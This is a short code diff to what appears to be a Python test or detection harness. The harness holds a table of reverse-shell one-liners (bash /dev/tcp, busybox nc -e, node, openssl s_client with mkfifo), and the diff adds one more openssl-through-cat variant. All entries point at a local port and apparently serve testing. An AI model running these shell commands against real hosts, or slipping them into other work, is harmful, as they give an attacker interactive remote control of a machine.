@@ -32,6 +32,7 @@ NODE = (
     "c.pipe(s.stdin); s.stdout.pipe(c);"
 )
 FIFO = "mkfifo f; /bin/sh -i < f 2>&1 | openssl s_client -quiet -connect 127.0.0.1:{port} > f"
+THROUGH_CAT = "mkfifo f; cat f | /bin/sh -i 2>&1 | openssl s_client -quiet -connect 127.0.0.1:{port} > f"
 SHELLS = {
     "bash": (["bash", "-c", "exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"], "socket"),
     "bash, by a number": (["bash", "-c", "exec 5<>/dev/tcp/127.0.0.1/{port}; exec sh <&5 >&5"], "socket"),
@@ -40,6 +41,7 @@ SHELLS = {
     "busybox": (["busybox", "nc", "127.0.0.1", "{port}", "-e", "/bin/sh"], "socket"),
     "node": (["node", "-e", NODE], "relay"),
     "openssl": (["sh", "-c", FIFO], "fifo"),
+    "openssl, through cat": (["sh", "-c", THROUGH_CAT], "fifo"),
     "openssl into a pipe": (["sh", "-c", "openssl s_client -quiet -connect 127.0.0.1:{port} 2>&1 | sh"], "pipe"),
 }
 
